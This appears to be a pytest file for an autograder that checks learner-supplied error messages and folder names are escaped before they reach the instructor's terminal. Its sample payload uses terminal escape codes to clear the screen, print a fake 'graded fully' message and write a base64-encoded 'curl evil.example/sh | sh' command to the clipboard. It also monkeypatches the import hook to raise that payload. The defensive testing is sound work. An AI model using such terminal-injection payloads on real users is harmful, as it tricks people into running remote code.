"""Learner text reaches the instructor's terminal escaped (issue 16, case 6)."""

from nngrade import demo
from nngrade.cli import main
from nngrade.console import escape

SPOOF = "\x1b[2J\x1b[H\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUvc2ggfCBzaAo=\x07\nAll submissions graded fully.\x1b[8m"


def test_escape_shows_every_control_and_format_character():
    assert escape("ok\x1b[2J\x07\u202etxt\nnext\tcol") == "ok\\x1b[2J\\x07\\u202etxt\\nnext\tcol"
    assert escape("a\x1bb\nc", keep_newlines=True) == "a\\x1bb\nc"
    assert escape(escape(SPOOF)) == escape(SPOOF)
    assert escape("Zoë Ñandú 李") == "Zoë Ñandú 李"


def test_a_set_up_error_and_a_folder_name_chosen_by_the_learner_print_escaped(toy_course, toy_source, capsys):
    guard = ("import builtins\n_real = builtins.__import__\n"
             "def _guard(name, *a, **k):\n"
             "    if name == 'numpy.testing':\n"
             "        vars(builtins)['__import__'] = _real\n"
             f"        raise RuntimeError({SPOOF!r})\n"
             "    return _real(name, *a, **k)\n"
             "vars(builtins)['__import__'] = _guard\n")
    root = toy_course({"mallory": demo.with_cell(demo.solved(toy_source), guard, position=1),
                       "eve\x1b[2J\nAll done": demo.solved(toy_source)})
    code = main(["grade", "toy", "--course-dir", str(root), "--jobs", "1", "--no-feedback"])
    captured = capsys.readouterr()
    shown = captured.out + captured.err
    assert code == 2 and "\x1b" not in shown and "\x07" not in shown
    assert "\\x1b]52;c;" in shown  # the attempt is visible, as text
    assert not any(line.startswith("All") for line in shown.splitlines())
